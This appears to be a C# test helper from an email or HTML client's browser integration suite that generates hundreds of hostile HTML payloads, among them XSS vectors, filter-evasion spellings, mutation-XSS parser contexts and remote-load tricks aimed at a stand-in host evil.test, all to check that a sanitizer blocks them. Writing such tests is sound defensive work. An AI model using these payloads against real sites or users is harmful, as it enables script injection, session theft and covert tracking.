using System.Globalization;
using System.Text;

namespace Facteur.IntegrationTests.Browser.Hostile;

/// <summary>
/// HTML that tries to run a script or to ask another host for something: ways to do it, each in several surroundings that make parsers disagree (S-15, S-17). In a way, {x} is a script and {u} an
/// address; both hold the number of the payload, so that what gets through can be told.
/// </summary>
internal static class HtmlPayloads
{
    /// <summary>Elements and attributes that run a script.</summary>
    private static readonly string[] scripts =
    [
        "<script>{x}</script>", "<ScRiPt >{x}</sCrIpT >", "<script src={u}></script>", "<script src='data:text/javascript,{x}'></script>", "<script type=module>{x}</script>", "<script\u000C>{x}</script>", "<<script>{x}//<</script>",
        "<script>/*<!--<script>*/{x}//--></script>", "<img src=x onerror={x}>", "<img src=x onerror=\"{x}\">", "<img/src=x/onerror={x}>", "<img src=`x`onerror={x}>", "<img src=x onerror\u000C=\u000C{x}>", "<img src=x:x onload={x} onerror={x}>",
        "<img srcset=x onerror={x}>", "<image src=x onerror={x}>", "<img \" onerror={x} src=x>", "<img '\"><img src=x onerror={x}>", "<a onmouseover={x}>over me</a>", "<a href=javascript:{x}>click</a>", "<a href=JaVaScRiPt:{x}>click</a>",
        "<a href=\"java&#10;script:{x}\">x</a>", "<a href=\"java\tscript:{x}\">x</a>", "<a href=\"&#1;javascript:{x}\">x</a>", "<a href=\" javascript:{x}\">x</a>", "<a href=\"javascript&colon;{x}\">x</a>", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{x}\">x</a>",
        "<a href=\"vbscript:{x}\">x</a>", "<a href=\"data:text/html,<script>{x}</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"view-source:javascript:{x}\">x</a>", "<a href=x ping={u}>x</a>",
        "<area href=javascript:{x}>", "<map name=m><area shape=default href=javascript:{x}></map><img usemap=#m>", "<base href=javascript:{x}//>", "<base href={u}/><img src=a>", "<base target=_top>", "<body onload={x}>", "<body onpageshow={x} onfocus={x}>",
        "<html onclick={x}>", "<frameset onload={x}><frame src=javascript:{x}>", "<iframe src=javascript:{x}></iframe>", "<iframe srcdoc=\"<script>{x}</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror={x}&gt;'></iframe>", "<iframe onload={x}></iframe>",
        "<object data=javascript:{x}></object>", "<object data='data:text/html,<script>{x}</script>'></object>", "<object type=text/html data={u}></object>", "<embed src=javascript:{x}>", "<embed src={u} type=image/svg+xml>", "<applet code={u}></applet>",
        "<form action=javascript:{x}><button>go</button></form>", "<form><button formaction=javascript:{x}>go</button></form>", "<form action={u}><input autofocus onfocus={x}></form>", "<input autofocus onfocus={x}>", "<input type=image src={u} onerror={x}>",
        "<select autofocus onfocus={x}><option>a</select>", "<textarea autofocus onfocus={x}>", "<keygen autofocus onfocus={x}>", "<button autofocus onfocus={x}>x</button>", "<div contenteditable autofocus onfocus={x}>x</div>", "<div tabindex=0 autofocus onfocus={x}>x</div>",
        "<details open ontoggle={x}>x</details>", "<marquee onstart={x}>x</marquee>", "<marquee behavior=alternate loop=1 onbounce={x} onfinish={x}>x</marquee>", "<video onerror={x}><source src=x></video>", "<video src=x onerror={x}></video>", "<video poster=javascript:{x}></video>",
        "<audio src=x onerror={x}></audio>", "<svg onload={x}></svg>", "<svg/onload={x}>", "<svg><script>{x}</script></svg>", "<svg><script href=data:,{x} /></svg>", "<svg><script xlink:href=\"data:,{x}\"></script></svg>", "<svg><a xlink:href=javascript:{x}><text x=20 y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:{x} /><text x=20 y=20>x</text></a></svg>", "<svg><set attributeName=onmouseover to={x}>", "<svg><animate onbegin={x} attributeName=x dur=1s>", "<svg><set onbegin={x} attributeName=x dur=1s>",
        "<svg><foreignObject><iframe srcdoc='<script>{x}</script>'></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{x}'/></svg>#x\"/></svg>", "<svg><style>@import '{u}';</style></svg>",
        "<svg><image href={u} /></svg>", "<svg><feImage href={u} /></svg>", "<svg><animate href=#x attributeName=href by={u}></svg>", "<svg><handler ev:event=load>{x}</handler></svg>", "<svg><discard onbegin={x}></svg>", "<math href=javascript:{x}>x</math>",
        "<math><mi xlink:href=javascript:{x}>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:{x}>x</maction></math>", "<math><annotation-xml encoding=text/html><script>{x}</script></annotation-xml></math>", "<meta http-equiv=refresh content=\"0;url=javascript:{x}\">",
        "<meta http-equiv=refresh content=\"0;url={u}\">", "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>{x}</script>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-{x}+ADw-/script+AD4-",
        "<link rel=stylesheet href={u}>", "<link rel=import href={u}>", "<link rel=prefetch href={u}>", "<link rel=preload as=script href={u}>", "<link rel=dns-prefetch href={u}>", "<link rel=preconnect href={u}>", "<link rel=icon href={u}>", "<link rel=manifest href={u}>", "<link rel=stylesheet href='data:text/css,@import url({u})'>",
        "<template><script>{x}</script></template>", "<template shadowrootmode=open><img src=x onerror={x}></template>", "<slot onslotchange={x}></slot>", "<noscript><p title=\"</noscript><img src=x onerror={x}>\">", "<noembed><img title=\"</noembed><img src=x onerror={x}>\"></noembed>",
        "<dialog open onclose={x}><form method=dialog><button autofocus>x</button></form></dialog>", "<div popover id=p onbeforetoggle={x}>x</div><button popovertarget=p>x</button>", "<div style=\"animation:x 1s\" onanimationstart={x}>x</div>", "<div style=\"transition:all 1s\" ontransitionend={x}>x</div>",
        "<isindex action=javascript:{x} type=submit>", "<plaintext><img src=x onerror={x}>", "<xmp><p title=\"</xmp><img src=x onerror={x}>\"></xmp>", "<listing>&lt;img src=x onerror={x}&gt;</listing>", "<comment><img src=x onerror={x}></comment>", "<bgsound src=javascript:{x}>", "<layer src={u}></layer>", "<xml src={u}></xml>",
        "<!--><img src=x onerror={x}>-->", "<!--[if IE]><script>{x}</script><![endif]-->", "<![CDATA[<img src=x onerror={x}>]]>", "<?xml-stylesheet href=\"javascript:{x}\"?>", "<!doctype html [<!entity x '<script>{x}</script>'>]>&x;", "<input name=attributes><img src=x onerror={x}>", "<form id=x><input name=innerHTML></form>", "<a id=body name=cookie href={u}>x</a>",
        "<p onclick={x} style=position:fixed;inset:0;z-index:99999>anywhere</p>", "<custom-element onclick={x} is=x>x</custom-element>", "<portal src={u}></portal>", "<fencedframe src={u}></fencedframe>", "<img src=/signout>", "<img src=/mail/image?u={u}>", "<img src=//evil.test/{n}>", "<a href=//evil.test/{n} target=_self rel=opener>x</a>",
    ];

    /// <summary>Images, fonts and styles that would be asked for while the message is only shown.</summary>
    private static readonly string[] requests =
    [
        "<img src={u}>", "<img srcset='{u} 1x, {u}?2 2x'>", "<picture><source srcset={u}><img src=x></picture>", "<img src=cid:x@{n} lowsrc={u} dynsrc={u} longdesc={u}>", "<table background={u}><tr><td background={u}>x</table>", "<body background={u}>", "<div style='background:url({u})'>x</div>", "<div style='background-image:url(\"{u}\")'>x</div>",
        "<div style='background:u\\72l({u})'>x</div>", "<div style='background:/**/url(/**/{u})'>x</div>", "<div style='background:url({u}'>x</div>", "<div style='background-image:image-set(\"{u}\" 1x)'>x</div>", "<div style='background-image:-webkit-image-set(url({u}) 1x)'>x</div>", "<div style='--a:url({u});background:var(--a)'>x</div>",
        "<div style='list-style:url({u})'><li>x</div>", "<div style='cursor:url({u}),auto'>x</div>", "<div style='border-image:url({u}) 30'>x</div>", "<div style='content:url({u})'>x</div>", "<div style='filter:url({u}#f)'>x</div>", "<div style='mask:url({u})'>x</div>", "<div style='clip-path:url({u}#c)'>x</div>", "<div style='shape-outside:url({u});float:left'>x</div>",
        "<div style='behavior:url({u})'>x</div>", "<div style='-moz-binding:url({u}#x)'>x</div>", "<div style='offset-path:url({u}#p)'>x</div>", "<div style='background:cross-fade(url({u}),red)'>x</div>", "<div style='background:src(\"{u}\")'>x</div>", "<style>@import url({u});</style>", "<style>@import '{u}';</style>", "<style>@\\69mport '{u}';</style>",
        "<style>@font-face{font-family:f{n};src:url({u})}p{font-family:f{n}}</style><p>x</p>", "<style>p{background:url({u})}</style><p>x</p>", "<style>p::before{content:url({u})}</style><p>x</p>", "<style>@media screen{p{background:url({u})}}</style><p>x</p>", "<style>@supports(color:red){p{background:url({u})}}</style><p>x</p>", "<style>@layer a{p{background:url({u})}}</style><p>x</p>",
        "<style>@container(min-width:1px){p{background:url({u})}}</style><p>x</p>", "<style>p{&:hover,&{background:url({u})}}</style><p>x</p>", "<style>a[href^='h']{background:url({u})}:has(p){background:url({u})}</style><a href=https://a.test>x</a>", "<style>@namespace url({u});</style>", "<style>@page{background:url({u})}</style>", "<style>@keyframes k{from{background:url({u})}}p{animation:k 1s}</style><p>x</p>",
        "<style>@property --p{syntax:'<url>';inherits:false;initial-value:url({u})}p{background:var(--p)}</style><p>x</p>", "<style>@counter-style c{system:cyclic;symbols:url({u})}li{list-style:c}</style><li>x", "<style><!--p{background:url({u})}--></style><p>x</p>", "<style>p{background:URL({u})}</style><p>x</p>", "<style>p{background:url( '{u}' )}</style><p>x</p>", "<style>*{background:url({u})!important}</style>",
        "<video poster={u}></video>", "<video src={u} autoplay></video>", "<audio src={u} autoplay></audio>", "<track src={u}>", "<embed src={u}>", "<object data={u}></object>", "<iframe src={u}></iframe>", "<input type=image src={u}>", "<svg><image xlink:href={u} /></svg>", "<svg><rect fill=url({u}#g) /></svg>", "<svg><use href={u}#x /></svg>", "<svg><filter id=f><feImage xlink:href={u} /></filter></svg>",
        "<math><mglyph src={u}></math>", "<bgsound src={u}>", "<frameset><frame src={u}></frameset>", "<img src=ftp://evil.test/{n}>", "<img src='\\\\evil.test\\{n}'>", "<img src='https:evil.test/{n}'>", "<img src='https:/\\evil.test/{n}'>", "<img src='&#104;ttps://evil.test/{n}'>", "<img src=ws://evil.test/{n}>", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{u}\"/></svg>'>",
        "<blockquote cite={u}>x</blockquote>", "<html manifest={u}>", "<head profile={u}>", "<img src=blob:{u}>", "<script src={u} async></script>", "<link rel=alternate href={u}>", "<link rel=prerender href={u}>", "<link rel=modulepreload href={u}>", "<meta http-equiv=Link content='<{u}>; rel=preload'>", "<a href={u} ping={u} attributionsrc={u}>x</a>", "<img attributionsrc={u} src=x>",
        "<meta http-equiv=x-dns-prefetch-control content=on><a href=https://p{n}.evil.test/>x</a>", "<link rel=dns-prefetch href=//p{n}.evil.test>", "<link rel=preconnect href=https://p{n}.evil.test crossorigin>", "<link rel=preload as=image imagesrcset='{u} 1x'>", "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"{u}\"]}]}</script>",
        "<script type=importmap>{\"imports\":{\"a\":\"{u}\"}}</script>", "<a href=mailto:x@p{n}.evil.test>x</a>", "<img src='cid:https://p{n}.evil.test/x'>", "<img loading=lazy src=https://p{n}.evil.test/x>", "<link rel=icon href=https://p{n}.evil.test/x>", "<link rel=expect href=#x blocking=render><img src=https://p{n}.evil.test/y>",
    ];

    /// <summary>Surroundings: the parser is in another state, namespace or element when it meets the payload.</summary>
    private static readonly string[] surroundings =
    [
        "{p}", "<table><tr><td>{p}</table>", "<table>{p}</table>", "<svg>{p}</svg>", "<svg><desc>{p}</desc></svg>", "<svg><style>{p}</style></svg>", "<math><mtext>{p}</mtext></math>", "<math><mtext><table><mglyph><style><!--</style>{p}", "<form><math><mtext></form><form><mglyph><style></math>{p}",
        "<noscript>{p}</noscript>", "<template>{p}</template>", "<select><option>{p}</select>", "<style>a</style>{p}<style>", "<!-- -->{p}<!-- ", "<p title='{p}'>", "<p title=\"</p>{p}\">", "<a href=\"https://a.test/\"x=\"{p}", "<div style='color:red;{p}'>", "<b><i><p></b>{p}</i></p>", "<title>{p}</title>{p}", "<textarea>{p}</textarea>{p}", "<xmp>{p}</xmp>{p}", "\uFEFF\0{p}\0",
        "<blockquote type=cite>{p}</blockquote>", "before<div class=gmail_quote>{p}</div>",
    ];

    /// <summary>Scripts, written in ways that filters read past.</summary>
    private static readonly string[] spellings = ["alert({n})", "top.__pwned={n}", "alert`{n}`", "&#97;lert({n})", "parent.__pwned={n};alert({n})"];

    /// <summary>All payloads: every way by itself, and in surroundings that change from one to the next.</summary>
    public static IEnumerable<string> All()
    {
        var number = 0;
        foreach (var way in scripts.Concat(requests))
        {
            yield return Write(way, surroundings[0], ++number);
            for (var i = 0; i < 8; i++) yield return Write(way, surroundings[1 + (number + i * 3) % (surroundings.Length - 1)], ++number);
        }
    }

    private static string Write(string way, string surrounding, int number)
    {
        var digits = number.ToString(CultureInfo.InvariantCulture);
        return new StringBuilder(surrounding).Replace("{p}", way).Replace("{x}", spellings[number % spellings.Length]).Replace("{u}", "https://evil.test/{n}").Replace("{n}", digits).ToString();
    }
}
